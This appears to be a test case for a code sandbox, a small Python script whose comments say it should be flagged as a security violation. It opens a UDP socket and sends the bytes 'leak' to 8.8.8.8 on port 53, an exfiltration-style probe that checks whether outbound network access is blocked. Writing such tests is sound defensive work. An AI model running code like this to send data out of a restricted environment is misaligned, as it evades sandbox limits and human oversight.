# expect: SECURITY_VIOLATION
# detail-has: socket
# stdout-lacks: ESCAPED
# why: creating a UDP socket (e.g. to send data or DNS queries out) is forbidden
import socket

MARK = "ESC" + "APED"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"leak", ("8.8.8.8", 53))
print(MARK, "sent a UDP datagram")
